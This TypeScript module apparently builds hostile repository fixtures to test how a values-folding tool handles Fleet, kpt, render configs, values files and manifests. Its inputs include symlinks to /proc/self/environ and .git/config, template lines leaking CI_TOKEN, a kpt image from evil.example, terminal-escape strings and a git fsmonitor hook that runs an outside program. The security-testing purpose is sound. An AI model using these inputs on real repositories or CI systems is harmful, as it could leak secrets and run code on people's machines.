// Fleet, kpt, renders, values files and plain manifests that lead out of the checkout.
import { join, relative } from "node:path";
import type { Draft, Fields } from "./hostile-draft.ts";
import { program } from "./hostile-kustomize.ts";
import { release } from "./hostile-outside.ts";

export function fleet(draft: Draft): void {
  const directory = draft.place("fleet");
  draft.both(`${directory}/own.yaml`, "a: 1\n");
  const attacks: Readonly<Record<string, () => Fields>> = {
    valuesFiles: () => ({ valuesFiles: ["own.yaml", draft.out(directory, "v.yaml"), draft.text(directory)] }),
    chart: () => ({ chart: draft.out(directory, "chart"), valuesFiles: ["own.yaml"] }),
    repo: () => ({ chart: draft.address("chart"), repo: draft.address("charts") }),
    valuesFrom: () => ({
      valuesFrom: [{ configMapKeyRef: { name: "v", key: "values.yaml" } }],
      values: { a: "${ .ClusterValues.x }" },
    }),
    template: () => ({ values: { a: 1 }, templateValues: { leak: '${ env "CI_TOKEN" }' } }),
  };
  const helm = (): Fields => attacks[draft.attack("fleet", attacks)]?.() ?? {};
  draft.json(
    `${directory}/fleet.yaml`,
    { helm: { valuesFiles: ["own.yaml"] } },
    {
      helm: helm(),
      targetCustomizations: [{ name: "prod", helm: helm(), kustomize: { dir: draft.out(directory, "app") } }],
      ...(draft.random.once(2) && { kustomize: { dir: draft.out(directory, "app") } }),
    },
  );
  draft.commands.push(["explain", "--json", directory], ["verify", directory]);
}

export function kpt(draft: Draft): void {
  const directory = draft.place("kpt");
  draft.both(`${directory}/hr.yaml`, release("shop", { a: 1 }));
  const sound = { apiVersion: "kpt.dev/v1", kind: "Kptfile", metadata: { name: "p" } };
  const pipeline: Readonly<Record<string, () => object>> = {
    configPath: () => ({ exec: "valuefold", configPath: draft.out(directory, "gen.yaml") }),
    exec: () => ({ exec: `./${program(draft, directory)}` }),
    image: () => ({ image: "evil.example/pwn:latest", configPath: draft.out(directory, "gen.yaml") }),
    settings: () => ({
      image: "valuefold",
      configMap: { "sops.keys": draft.out(directory, "keys"), sops: "{}" },
    }),
  };
  const mutators = [pipeline[draft.attack("kpt", pipeline)]?.()];
  draft.json(`${directory}/Kptfile`, sound, {
    ...sound,
    upstream: { type: "git", git: { repo: draft.address("r.git"), directory: "/", ref: "main" } },
    pipeline: { mutators, validators: mutators },
  });
  if (draft.random.once(2)) draft.links.set(`${directory}/more.yaml`, join(draft.outside.folder, "hr.yaml"));
  if (draft.random.once(2)) draft.links.set(`${directory}/sub`, draft.outside.folder);
  draft.commands.push(["explain", "--json", directory], ["verify", directory], ["doctor", directory]);
}

export function render(draft: Draft): void {
  const directory = draft.place("render");
  const config = "config";
  const schema = {
    layers: [
      {
        id: "default",
        path: { directory: "apps/<< app >>" },
        templates: { configMap: { name: "values.yaml" } },
      },
    ],
  };
  draft.both(
    `${directory}/${config}/schema.yaml`,
    JSON.stringify({ variables: [{ name: "app", required: true }], ...schema }),
  );
  draft.both(`${directory}/${config}/apps/shop/values.yaml`, "a: 1\n");
  draft.both(
    `${directory}/hr.yaml`,
    release("shop", {}, [{ kind: "ConfigMap", name: "shop", optional: true }]),
  );
  const d = `${directory}/${config}`;
  const sound = {
    directory: config,
    schema: "schema.yaml",
    scope: { variable: "app", directories: "apps", includes: { regex: [".+"] } },
    destination: { namespace: "shop", keys: { configMap: "values.yaml", secret: "values.yaml" } },
  };
  const attacks: Readonly<Record<string, () => object>> = {
    directory: () => ({
      directory: draft.random.pick([
        draft.outside.folder,
        relative(join(draft.outside.repo, directory), draft.outside.folder),
        draft.link(directory, draft.outside.folder),
      ]),
      schema: {
        ...schema,
        layers: [
          {
            id: "x",
            path: { directory: "." },
            templates: { configMap: { name: draft.random.pick(["values.yaml", "v.yaml"]) } },
          },
        ],
      },
      scope: undefined,
      instances: { shop: {} },
    }),
    renderSchema: () => ({ schema: draft.out(d, "schema.yaml") }),
    layerPath: () => ({
      schema: {
        layers: [
          { id: "x", path: { directory: draft.out(d, ".") }, templates: { configMap: { name: "v.yaml" } } },
        ],
      },
    }),
    layerFile: () => ({
      schema: {
        layers: [
          {
            id: "x",
            path: { directory: "apps/<< app >>" },
            templates: { configMap: { name: draft.out(`${d}/apps/shop`, "v.yaml") } },
          },
        ],
      },
    }),
    layerText: () => ({
      schema: {
        layers: [
          {
            id: "x",
            path: { directory: "apps/<< app >>" },
            templates: { configMap: { name: draft.text(`${d}/apps/shop`) } },
          },
        ],
      },
    }),
    scope: () => ({
      scope: { variable: "app", directories: draft.out(d, "."), includes: { regex: [".+"] } },
    }),
    variable: () => ({
      instances: {
        shop: {
          app: draft.random.pick(["../../../../out", `../${draft.link(`${d}/apps`, draft.outside.folder)}`]),
        },
      },
      scope: undefined,
    }),
    includes: () => {
      draft.change(
        `${d}/apps/shop/values.yaml`,
        `leak: {{ include "text" }}\nmore: {{ include "../../out/text" }}\n`,
      );
      return {
        schema: {
          ...schema,
          includes: [
            {
              function: { name: "include" },
              path: { directory: draft.out(d, ".") },
              extension: draft.random.pick(["", ".yaml"]),
            },
          ],
        },
      };
    },
    linkedLayer: () => {
      draft.files.delete(`${d}/apps/shop/values.yaml`);
      draft.links.set(`${d}/apps/shop/values.yaml`, join(draft.outside.folder, "v.yaml"));
      return {};
    },
    linkedInstance: () => {
      draft.links.set(`${d}/apps/other`, draft.outside.folder);
      return {};
    },
    renderTemplate: () => {
      draft.change(`${d}/apps/shop/values.yaml`, 'leak: {{ env "CI_TOKEN" }}{{ expandenv "$CI_TOKEN" }}\n');
      return {};
    },
    renderKeys: () => ({ sops: { keys: draft.out(directory, "keys") } }),
  };
  const name = draft.attack("render", attacks);
  const settings = (spec: object): string =>
    JSON.stringify({
      apiVersion: "valuefold.dev/v1alpha1",
      kind: "ValueFoldRender",
      metadata: { name: "r", namespace: "shop" },
      spec,
    });
  draft.before.set(`${directory}/render.yaml`, settings(sound));
  draft.change(`${directory}/render.yaml`, settings({ ...sound, ...attacks[name]?.() }));
  draft.commands.push(
    ["render", "-c", `${directory}/render.yaml`, "--root", directory],
    ["explain", "--json", directory],
    ["explain", "shop", "**", directory],
    ["verify", directory],
  );
}

/** Bare values files, of which some are links. */
export function valuesFiles(draft: Draft): void {
  const directory = draft.place("values");
  for (const name of ["a", "b"]) draft.both(`${directory}/values-${name}.yaml`, "a: 1\nb: {c: 2, d: 3}\n");
  const attacks: Readonly<Record<string, () => void>> = {
    linked: () =>
      draft.links.set(
        `${directory}/values-c.yaml`,
        draft.random.pick([join(draft.outside.folder, "v.yaml"), join(draft.outside.home, "v.yaml")]),
      ),
    environ: () => draft.links.set(`${directory}/values-c.yaml`, "/proc/self/environ"),
    git: () => draft.links.set(`${directory}/values-c.yaml`, "../.git/config"),
    folder: () => draft.links.set(`${directory}/sub`, draft.outside.folder),
    embedded: () => embedded(draft, directory),
  };
  attacks[draft.attack("values", attacks)]?.();
  draft.commands.push(
    ["explain", "--json", directory],
    ["factor", directory],
    ["factor", "--in-place", `${directory}/values-a.yaml`, `${directory}/values-b.yaml`],
    ["factor", "--out", join(draft.outside.root, "factored"), directory],
    ["verify", directory],
    ["compare", directory, `HEAD^:${directory}`],
    ["explain", "--json", `${directory}/values-a.yaml`, `${directory}/values-c.yaml`],
    ["values", `${directory}/values-a.yaml`, `${directory}/values-c.yaml`],
  );
}

/** Manifests without a kustomization. */
export function manifests(draft: Draft): void {
  const directory = draft.place("plain");
  draft.both(`${directory}/hr.yaml`, release("shop", { a: 1 }, [{ kind: "ConfigMap", name: "v" }]));
  const attacks: Readonly<Record<string, () => void>> = {
    file: () => draft.links.set(`${directory}/cm.yaml`, join(draft.outside.folder, "cm.yaml")),
    folder: () =>
      draft.links.set(
        `${directory}/more`,
        draft.random.pick([draft.outside.folder, "/proc/self", "../.git"]),
      ),
    entry: () =>
      draft.links.set(
        draft.next("entry"),
        draft.random.pick([draft.outside.folder, join(draft.outside.folder, "app")]),
      ),
    helmChart: () => {
      const helmChart = {
        apiVersion: "helm.cattle.io/v1",
        kind: "HelmChart",
        metadata: { name: "k", namespace: "kube-system" },
        spec: { chart: draft.out(directory, "chart"), repo: draft.address("charts"), valuesContent: "a: 1" },
      };
      draft.change(`${directory}/k.yaml`, JSON.stringify(helmChart));
    },
    loop: () => draft.links.set(`${directory}/loop`, draft.random.pick([".", "..", "loop", "../.."])),
  };
  attacks[draft.attack("manifests", attacks)]?.();
  draft.commands.push(
    ["explain", "--json", directory],
    ["fold", `${directory}/hr.yaml`],
    ["verify", directory],
    ["explain", "shop", "**", directory],
  );
}

/** Names, keys and values that would change what a terminal or a log shows. */
export function controls(draft: Draft): void {
  const directory = draft.place("plain");
  const nasty = draft.random.pick([
    "\u001b[2J",
    "\u001b]0;x\u0007",
    "\u202ereversed",
    "\u009b31m",
    "x\n##[error]x",
    "x\n::error::x",
  ]);
  const attacks: Readonly<Record<string, () => void>> = {
    value: () =>
      draft.change(
        `${directory}/hr.yaml`,
        release("shop", { a: nasty, b: [nasty], c: `${nasty}\n${nasty}` }),
      ),
    key: () =>
      draft.change(`${directory}/hr.yaml`, release("shop", { [nasty]: 2, a: { [nasty]: { b: 1 } } })),
    target: () =>
      draft.change(
        `${directory}/hr.yaml`,
        release(`shop${nasty}`, { a: 2 }, [{ kind: "ConfigMap", name: nasty }]),
      ),
    file: () => {
      const folder = `${directory}/${nasty}`;
      draft.change(`${folder}/hr.yaml`, release("named", { a: 2 }));
      draft.change(`${folder}/kustomization.yaml`, JSON.stringify({ resources: ["hr.yaml"] }));
    },
    broken: () => {
      draft.change(`${directory}/more.yaml`, release("more", { a: 2 }));
      draft.change(`${directory}/broken${nasty}.yaml`, "kind: [");
    },
  };
  draft.both(`${directory}/hr.yaml`, release("shop", { a: 1 }));
  attacks[draft.attack("controls", attacks)]?.();
  draft.commands.push(
    ["explain", "*", "**", directory],
    ["verify", directory],
    ["explain", "--annotate", "shop", directory],
    ["verify", "--format", "github", directory],
  );
}

/** A bare repository in plain files, as a pull request can bring it. */
function embedded(draft: Draft, directory: string): void {
  draft.change(`${directory}/HEAD`, "ref: refs/heads/main\n");
  draft.change(
    `${directory}/config`,
    `[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tworktree = .\n\tfsmonitor = "${draft.outside.program} embedded; false"\n`,
  );
  draft.change(`${directory}/objects/.keep`, "");
  draft.change(`${directory}/refs/heads/.keep`, "");
}
